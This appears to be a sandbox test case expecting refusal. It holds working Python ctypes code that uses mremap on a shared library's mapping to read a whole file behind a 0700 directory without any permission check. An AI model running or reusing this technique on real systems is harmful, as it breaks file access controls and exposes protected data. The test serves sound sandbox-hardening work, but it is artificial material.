# category: filesystem-read
# signal: limit
# expect: refused
# kinds: exception worker-exit
# plain: skip (reads a file the interpreter mapped; only a refusal is a pass)
# tripwire: stops ctypes.dlopen
# source: mremap(MREMAP_MAYMOVE) of one page of a shared library's file mapping to the file's whole length: the kernel maps the rest of the file from the page cache without any permission check, so the process reads every byte of a file it cannot open (here one under a 0700 directory, sections no segment maps included)
import ctypes
import hashlib
import struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.syscall.argtypes = (ctypes.c_long,) * 6
SYS_MREMAP, MREMAP_MAYMOVE, PAGE = 25, 1, 4096


class LinkMap(ctypes.Structure):
    pass


LinkMap._fields_ = (
    ("l_addr", ctypes.c_void_p), ("l_name", ctypes.c_char_p), ("l_ld", ctypes.c_void_p),
    ("l_next", ctypes.POINTER(LinkMap)), ("l_prev", ctypes.POINTER(LinkMap)),
)
libraries = []
node = ctypes.cast(libc._handle, ctypes.POINTER(LinkMap))
while node:
    if node.contents.l_name and node.contents.l_addr:
        libraries.append(node.contents)
    node = node.contents.l_next
preferred = [lib for lib in libraries if b"_codecs_tw" in lib.l_name]
target = (preferred or libraries)[-1]
header = ctypes.string_at(target.l_addr, 64)
section_headers, = struct.unpack_from("<Q", header, 0x28)
entry_size, entries = struct.unpack_from("<HH", header, 0x3A)
size = section_headers + entry_size * entries
moved = libc.syscall(
    SYS_MREMAP, target.l_addr, PAGE, (size + PAGE - 1) // PAGE * PAGE, MREMAP_MAYMOVE, 0, 0
)
if moved < 0:
    raise OSError(ctypes.get_errno(), "mremap")
content = ctypes.string_at(moved, size)
return {
    "file": target.l_name.decode(),
    "bytes": size,
    "sha256": hashlib.sha256(content).hexdigest(),
    "section_headers": content[section_headers:section_headers + 128].hex(),
}
